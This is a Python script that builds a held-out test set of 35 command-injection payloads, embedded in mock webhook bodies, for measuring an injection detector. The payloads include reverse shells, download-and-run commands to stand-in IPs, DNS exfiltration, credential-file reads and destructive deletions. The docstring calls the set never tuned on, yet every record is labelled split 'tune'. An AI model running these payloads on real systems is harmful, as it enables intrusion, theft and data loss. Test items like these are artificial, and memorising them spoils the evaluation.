#!/usr/bin/env python3
"""Second command-injection held-out set (2026-11-23): 35 payloads written fresh by hand, before the change to the
shell grammar they are used to measure, from the shapes command injection takes in the wild (data then a separator
then a command; substitutions; newline and encoded separators; Windows shells; download-and-run; reverse shells;
${IFS} and redirect spellings). Not derived from the detector's word lists. Each payload is used as a raw JSON
value and placed inside a realistic webhook body (a shop order note and a support ticket comment). Never tuned on:
bench/threats-quality reports it separately. Writes cmdi-holdout2.jsonl in the corpus format."""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))

PAYLOADS = [
    "invoice-2291.pdf; cat /proc/self/environ",
    "8.8.8.8 && id",
    "|| uname -a",
    "a.png | nc 203.0.113.9 9001 -e /bin/bash",
    "$(sleep 7)",
    "`cat /etc/hostname`",
    "; net user",
    "& whoami /priv",
    "\"; curl -fsSL https://203.0.113.7/x.sh | sh; \"",
    "1.2.3.4\nwget -q -O- http://198.51.100.4/a | sh",
    ";${IFS}cat${IFS}/etc/shadow",
    "|/bin/busybox telnetd -l /bin/sh -p 2323",
    "&& powershell -nop -w hidden -enc SQBFAFgA",
    "& type C:\\inetpub\\wwwroot\\web.config",
    "; echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQzIDA+JjE= | base64 -d | bash",
    "$(nslookup $(whoami).oast.example.net)",
    "'; python3 -c 'import os;os.system(\"id\")' #",
    "x; rm -rf /var/www/html/*",
    "; kill -9 -1",
    "| tasklist /v",
    ";ls${IFS}-la${IFS}/",
    "&& cat flag.txt",
    "; ping -c 3 attacker.example.org",
    "%26%26 dir c:\\",
    "|| ncat 192.0.2.10 4444",
    "; crontab -l",
    "`wget http://198.51.100.23/s -O /tmp/s`",
    "$(id>/tmp/pwned)",
    "; env | grep -i key",
    "a;cat</etc/passwd",
    "test.jpg;whoami",
    "; ls -R ~/.ssh",
    "| mshta http://198.51.100.2/p.hta",
    "&& certutil -urlcache -split -f http://198.51.100.2/a.exe a.exe",
    "report.txt && more secrets.env",
]


def order(note):
    return {"id": 5523114770, "email": "buyer@example.org", "currency": "EUR", "total_price": "64.90",
            "note": note, "line_items": [{"title": "Linen shirt", "quantity": 1, "price": "64.90"}],
            "shipping_address": {"city": "Lyon", "zip": "69002", "country_code": "FR"}}


def ticket(comment):
    return {"ticket": {"id": 88213, "subject": "Export fails", "status": "open",
                       "comment": {"body": comment, "public": False, "author_id": 421}}}


def main():
    out = []
    i = 300001
    for n, p in enumerate(PAYLOADS):
        out.append({"id": i, "split": "tune", "label": "attack", "category": "CMDI", "kind": "value", "context": "json_value", "value": p})
        i += 1
        body = order(p) if n % 2 == 0 else ticket(p)
        out.append({"id": i, "split": "tune", "label": "attack", "category": "CMDI", "kind": "json_body", "context": "json_value",
                    "value": json.dumps(body, ensure_ascii=False)})
        i += 1
    with open(os.path.join(HERE, "cmdi-holdout2.jsonl"), "w", encoding="utf-8") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
